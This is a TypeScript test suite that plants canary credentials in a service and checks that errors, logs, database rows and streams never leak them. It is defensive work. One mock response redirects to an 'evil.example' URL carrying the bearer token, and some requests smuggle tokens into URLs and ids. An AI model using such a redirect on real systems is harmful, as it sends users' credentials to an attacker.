import { randomBytes } from "node:crypto";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import type { IncomingMessage, ServerResponse } from "node:http";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { WebSocket } from "ws";
import { topFields } from "../../encore-local/src/endpoint/fields";
import { type DaytonaServer, startDaytonaServer } from "../daytona-server/server";
import { type GitHubServer, startGitHubServer } from "../github-server/server";
import { vaporformModel } from "../support/endpoints";
import { everyRow, execute } from "../support/every-table";
import { AUDIENCE, startIssuer } from "../support/issuer";
import { startVaporform, type Vaporform } from "../support/vaporform";

/** In every credential there is; wherever else it turns up, one has leaked. */
const MARK = `canary${randomBytes(8).toString("hex")}`;
const CREDENTIAL_KEY = Buffer.from(MARK.padEnd(32, "k").slice(0, 32)).toString("base64");
const credentials = {
  daytona: `key-of-no-form-${MARK}`,
  operator: `github_pat_${MARK}${"A1".repeat(10)}`,
  classic: `ghp_${MARK}${"A1".repeat(10)}`,
  formless: `token-of-no-form-${MARK}`,
};
const NEEDLES = [MARK, CREDENTIAL_KEY];

type Answer = (req: IncomingMessage, res: ServerResponse) => void;

const json =
  (status: number, headers: Record<string, string> = {}): Answer =>
  (req, res) => {
    const echo = req.headers.authorization ?? "";
    res.writeHead(status, { "content-type": "application/json", ...headers });
    res.end(JSON.stringify({ statusCode: status, message: `${echo} as in ${echo.replace(/^Bearer /i, "")} is wrong` }));
  };
const html =
  (status: number): Answer =>
  (req, res) => {
    res.writeHead(status, { "content-type": "text/html" });
    res.end(`<html><body>You sent ${req.headers.authorization?.replace(/^Bearer /i, "")}</body></html>`);
  };
const torn: Answer = (req, res) => {
  res.writeHead(200, { "content-type": "application/json", "content-length": "100000" });
  res.write(`{"message":"${req.headers.authorization}`);
  setImmediate(() => res.destroy());
};

let scratch: string;
let github: GitHubServer;
let daytona: DaytonaServer;
let server: Vaporform;
let answerGitHub: Answer | undefined;
let answerDaytona: Answer | undefined;
/** What each of the two was signed in to with. */
const presented = new Set<string>();
const printed: string[] = [];
const answers: string[] = [];

beforeAll(async () => {
  scratch = await mkdtemp(path.join(tmpdir(), "vaporform-canary-"));
  await mkdir(path.join(scratch, "owner/name"), { recursive: true });
  await writeFile(path.join(scratch, "owner/name/README"), "hello");
  const instead = (answer: Answer | undefined, req: IncomingMessage, res: ServerResponse): boolean => {
    presented.add(req.headers.authorization ?? "");
    answer?.(req, res);
    return answer !== undefined;
  };
  github = await startGitHubServer({
    root: scratch,
    tokens: [credentials.operator, credentials.classic],
    onRequest: async (req, res) => instead(answerGitHub, req, res),
  });
  daytona = await startDaytonaServer({
    key: credentials.daytona,
    onRequest: async (req, res) => instead(answerDaytona, req, res),
  });
  server = await start({ CredentialKey: CREDENTIAL_KEY });
});

afterAll(async () => {
  await server.stop();
  await github.close();
  await daytona.close();
  await rm(scratch, { recursive: true, force: true });
});

async function start(secrets: Record<string, string>): Promise<Vaporform> {
  return await startVaporform({
    dataDir: path.join(scratch, "data"),
    env: { GITHUB_API_URL: github.url, VAPORFORM_REQUESTS_PER_MINUTE: "100000", VAPORFORM_IMPORTS_PER_USER: "1000" },
    secrets: {
      DaytonaAPIKey: credentials.daytona,
      DaytonaAPIURL: daytona.url,
      GitHubToken: credentials.operator,
      ...secrets,
    },
    onLine: (line) => printed.push(line),
  });
}

interface Answered {
  id?: string;
  projectId?: string;
  workspaceId?: string;
  status?: string;
  finishedAt?: string | null;
  nextAttemptAt?: string | null;
  failure?: { reason: string } | null;
  statusReason?: string | null;
}

async function send(method: string, at: string, body?: unknown, headers: Record<string, string> = {}) {
  const response = await fetch(server.url + at, {
    method,
    headers: {
      authorization: "Bearer dev:canary",
      "content-type": "application/json",
      cookie: `session=${MARK}`,
      "x-api-key": MARK,
      ...headers,
    },
    ...(body === undefined ? {} : { body: typeof body === "string" ? body : JSON.stringify(body) }),
  });
  const text = await response.text();
  answers.push(`${method} ${shown(at)}: ${response.status} ${JSON.stringify([...response.headers])} ${text}`);
  return { status: response.status, text, body: (text.startsWith("{") ? JSON.parse(text) : {}) as Answered };
}

async function until(at: string, settled: (state: Answered) => boolean): Promise<Answered> {
  for (;;) {
    const { body } = await send("GET", at);
    if (settled(body)) return body;
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
}

/** An address of the test's own, for people: without the credentials in it. */
const shown = (at: string): string => at.replace(/\?.*/, "").replace(/\bgh\w+|\bgithub_pat_\w+/g, "<credential>");

/** What comes on a stream until it ends, or, for one that goes on, until `enough`. */
async function listen(at: string, enough: (messages: string[]) => boolean = () => false): Promise<string[]> {
  const socket = new WebSocket(server.url.replace("http", "ws") + at, {
    headers: { authorization: "Bearer dev:canary", cookie: `session=${MARK}` },
  });
  const messages: string[] = [];
  await new Promise<void>((resolve) => {
    socket.on("message", (data) => {
      messages.push(String(data));
      if (enough(messages)) socket.close();
    });
    socket.on("error", (error) => messages.push(String(error)));
    socket.on("close", (code, reason) => {
      messages.push(`closed: ${code} ${reason}`);
      resolve();
    });
  });
  answers.push(...messages.map((message) => `stream ${shown(at)}: ${message}`));
  return messages;
}

/** Begins an import, and waits until it has ended or its next attempt is waited for. */
async function importWith(token: string | undefined): Promise<Answered> {
  const { body } = await send("POST", "/github/import", { repository: "owner/name", ...(token && { token }) });
  return await until(
    `/github/imports/${body.id}`,
    (state) => state.finishedAt !== null || state.nextAttemptAt !== null,
  );
}

async function workspaceOfNewProject(): Promise<Answered> {
  const { body } = await send("POST", "/projects", { name: `canary ${crypto.randomUUID()}`, language: "typescript" });
  const passing = new Set(["pending", "starting"]);
  return await until(
    `/workspace/project/${body.id}`,
    ({ status, statusReason }) => !passing.has(status ?? "") || (statusReason ?? null) !== null,
  );
}

function expectNoMark(lines: readonly string[], where: string): void {
  const leaks = lines.filter((line) => NEEDLES.some((needle) => line.includes(needle)));
  expect(leaks, where).toEqual([]);
}

async function expectNothingLeaked(): Promise<void> {
  expectNoMark(answers, "answers");
  expect(answers.filter((answer) => /\bat \S+ \(|node:internal|\.[cm]?[jt]s:\d+/.test(answer))).toEqual([]);
  expectNoMark(printed, "log lines");
  expectNoMark(await everyRow(server.dataDir), "rows");
}

describe("a marked credential", () => {
  it("is looked for where it could be found", async () => {
    await send("POST", "/projects", { name: "an innocent mark: needle-in-the-rows" });
    expect((await everyRow(server.dataDir)).some((row) => row.includes("needle-in-the-rows"))).toBe(true);
    expect(answers.some((answer) => answer.includes("needle-in-the-rows"))).toBe(true);
    expect(printed.length).toBeGreaterThan(0);
  });

  it.each<[string, Answer]>([
    ["401", json(401)],
    ["403", json(403)],
    ["403 for single sign-on", json(403, { "x-github-sso": "required; url=https://github.com/orgs/x/sso" })],
    ["404", json(404)],
    ["409", json(409)],
    ["422", json(422)],
    ["429", json(429, { "retry-after": "1" })],
    ["451", json(451)],
    ["500", json(500)],
    ["a web page", html(200)],
    ["a web page and 502", html(502)],
    ["half an answer", torn],
    [
      "a redirect that repeats it",
      (req, res) => res.writeHead(302, { location: `https://evil.example/?token=${req.headers.authorization}` }).end(),
    ],
  ])("stays inside when GitHub answers with %s and repeats it", async (_title, answer) => {
    answerGitHub = answer;
    for (const token of [credentials.classic, credentials.formless, undefined]) {
      const { id, failure, nextAttemptAt } = await importWith(token);
      expect(failure?.reason ?? nextAttemptAt).toEqual(expect.any(String));
      const told = await listen(`/github/imports/${id}/progress`, (messages) => messages.length > 1);
      expect(told.length).toBeGreaterThan(1);
    }
    await send("GET", `/github/repository?repository=owner/name`);
    answerGitHub = undefined;
    await expectNothingLeaked();
  });

  it("is sent to GitHub all the same", () => {
    for (const name of ["operator", "classic", "formless"] as const) {
      expect(presented).toContain(`Bearer ${credentials[name]}`);
    }
  });

  it.each<[string, Answer]>([
    ["401", json(401)],
    ["403", json(403)],
    ["400", json(400)],
    ["409", json(409)],
    ["429", json(429, { "retry-after": "1" })],
    ["500", json(500)],
    ["a web page", html(200)],
    ["a web page and 502", html(502)],
    ["half an answer", torn],
  ])("stays inside when Daytona answers with %s and repeats it", async (_title, answer) => {
    answerDaytona = answer;
    const state = await workspaceOfNewProject();
    expect(state.status).not.toBe("running");
    await send("GET", `/workspace/${state.id}/logs`);
    const told = await listen(`/workspace/${state.id}/events`, (messages) => messages.length > 1);
    expect(told.length).toBeGreaterThan(1);
    expect((await listen(`/workspace/${state.id}/terminal`))[0]).toContain('"type":"error"');
    await send("POST", `/workspace/${state.id}/exec`, { command: "true" });
    await send("GET", "/workspace/diagnostics");
    await send("DELETE", `/workspace/${state.id}`);
    answerDaytona = undefined;
    await expectNothingLeaked();
    expect([...presented].some((header) => header.includes(credentials.daytona))).toBe(true);
  });

  it("stays inside when a sandbox fails for a reason that repeats it", async () => {
    const state = await workspaceOfNewProject();
    await until(`/workspace/${state.id}`, ({ status }) => status === "running");
    const record = daytona.registry.all.find(({ sandbox }) => sandbox.labels["vaporform-workspace"] === state.id);
    if (record === undefined) throw new Error("the workspace has no sandbox");
    daytona.registry.setState(record, "error", `the runner refused ${credentials.daytona}`);
    answerDaytona = (req, res) => (req.url?.startsWith("/toolbox") ? html(500)(req, res) : json(500)(req, res));
    for (const call of ["exec", "code-run"]) {
      await send("POST", `/workspace/${state.id}/${call}`, { command: "true", code: "1" });
    }
    await send("GET", `/workspace/${state.id}/sync-status`);
    await send("GET", `/workspace/${state.id}/logs`);
    answerDaytona = undefined;
    await expectNothingLeaked();
  });

  it("stays inside when what works in the background fails for a reason that repeats it", async () => {
    const state = await workspaceOfNewProject();
    const from = printed.length;
    await execute(
      server.dataDir,
      "vaporform",
      `CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS
         $$ BEGIN RAISE EXCEPTION 'refused with %', '${credentials.classic} and ${credentials.daytona}'; END $$;
       CREATE TRIGGER refuse BEFORE UPDATE ON workspaces FOR EACH ROW EXECUTE FUNCTION refuse();
       CREATE TRIGGER refuse BEFORE DELETE ON idempotency_keys FOR EACH STATEMENT EXECUTE FUNCTION refuse();`,
    );
    // A subscription, a cron job's endpoint, and an endpoint of the user's.
    expect((await send("POST", `/workspace/${state.id}/stop`)).status).toBe(500);
    expect((await send("POST", "/auth.sweepRequests")).status).toBe(500);
    await send("DELETE", `/projects/${state.projectId}`);
    for (;;) {
      if (printed.slice(from).some((line) => line.includes("message handler failed"))) break;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    await execute(
      server.dataDir,
      "vaporform",
      "DROP TRIGGER refuse ON workspaces; DROP TRIGGER refuse ON idempotency_keys; DROP FUNCTION refuse();",
    );
    expect(printed.slice(from).filter((line) => line.includes("refused with")).length).toBeGreaterThanOrEqual(3);
    await expectNothingLeaked();
  });

  it("is looked for in what every subscription throws", async () => {
    const { root, subscriptions } = vaporformModel();
    for (const { name, location } of subscriptions) {
      const source = await readFile(path.resolve(root, location.file), "utf8");
      expect(source.split(`"${name}", {`)[1], name).toMatch(/^\s+handler: withoutSecrets\(/);
    }
  });

  it("has no place in a message of the queue", () => {
    const { topics, declarations } = vaporformModel();
    const fields = topics.flatMap(({ message }) => topFields(message, declarations));
    expect(fields.length).toBeGreaterThanOrEqual(topics.length);
    expect(fields.filter(({ name, schema }) => !/Id$/.test(name) || schema.kind !== "string")).toEqual([]);
  });

  it("is not repeated to who sends it where it does not belong", async () => {
    const refused = [
      await send("POST", "/github/import", { repository: `https://user:${MARK}@github.com/owner/name` }),
      await send("POST", "/github/import", { repository: `https://x-access-token:${MARK}@evil.example/owner/name` }),
      await send("POST", "/github/import", { repository: 5, token: MARK }),
      await send("POST", "/github/import", `{"repository":"owner/name","token":"${MARK}`),
      await send("POST", "/github/import", { repository: "owner/name", token: MARK, projectId: "none" }),
      await send("GET", `/github/repository?repository=owner/name/../x&token=${MARK}`),
      await send("GET", `/projects/none?access_token=${MARK}`),
      // In the place of an id, which messages name.
      await send("GET", `/projects/${credentials.classic}`),
      await send("DELETE", `/projects/${credentials.operator}`),
      await send("GET", `/vfs/files/${credentials.classic}/a`),
      await send("PUT", `/vfs/files/${credentials.classic}/a`, "x"),
      await send("GET", "/projects", undefined, { authorization: `Bearer ${MARK}` }),
      await send("GET", "/projects", undefined, { authorization: `Basic ${MARK}` }),
      await send("GET", "/projects", undefined, { authorization: MARK }),
      await send("GET", "/projects", undefined, { authorization: `Bearer eyJhbGciOiJub25lIn0.${MARK}.x` }),
    ];
    expect(refused.map(({ status }) => status).filter((status) => status < 400 || status >= 500)).toEqual([]);
    expect(await listen(`/workspace/${credentials.classic}/events`)).toHaveLength(2);
    await expectNothingLeaked();
  });

  it("stays inside when it is a token that an issuer's keys do not fit, or cannot be had for", {
    timeout: 180_000,
  }, async () => {
    const issuer = await startIssuer();
    await server.stop();
    server = await start({ AuthIssuer: issuer.url, AuthAudience: AUDIENCE });
    try {
      const bad = Object.values(await issuer.badTokens()).filter((token) => token.includes("."));
      const marked = await issuer.token((jwt) => jwt.setSubject(MARK).setExpirationTime(1));
      for (const token of [...bad, marked]) {
        NEEDLES.push(...token.split(".").filter((part) => part.length > 40));
        const { status } = await send("GET", "/projects", undefined, { authorization: `Bearer ${token}` });
        expect(status).toBe(401);
      }
      issuer.setKeysStatus(503);
      await server.stop();
      server = await start({ AuthIssuer: issuer.url, AuthAudience: AUDIENCE });
      const unchecked = await issuer.token((jwt) => jwt.setSubject(MARK));
      NEEDLES.push(...unchecked.split(".").slice(1));
      const { status } = await send("GET", "/projects", undefined, { authorization: `Bearer ${unchecked}` });
      expect(status).toBe(503);
      await expectNothingLeaked();
    } finally {
      await server.stop();
      await issuer.stop();
      server = await start({ CredentialKey: CREDENTIAL_KEY });
    }
  });

  it("stays inside when MongoDB is away, and when a key is none", async () => {
    answerGitHub = json(500);
    await importWith(credentials.classic);
    await server.stop();
    answerGitHub = undefined;
    server = await start({
      CredentialKey: `no-key-at-all-${MARK}`,
      MongoDBURI: `mongodb://user:${MARK}@127.0.0.1:9/vaporform?serverSelectionTimeoutMS=300`,
    });
    const refused = await send("POST", "/github/import", { repository: "owner/name", token: credentials.classic });
    expect(refused.text).toContain("credentials_not_configured");
    const { body } = await send("POST", "/projects", { name: "with MongoDB away" });
    const write = await send("POST", "/vfs/files", { projectId: body.id, path: "a", content: "x" });
    expect(write).toMatchObject({ status: 503, text: expect.stringContaining("content_store_unavailable") });
    await importWith(undefined);
    await expectNothingLeaked();
    await server.stop();
    server = await start({ MongoDBURI: `mongodb://user:${MARK}@:/no uri` });
    const other = await send("POST", "/vfs/files", { projectId: body.id, path: "a", content: "x" });
    expect(other.status).toBeGreaterThanOrEqual(500);
    await expectNothingLeaked();
  });
});
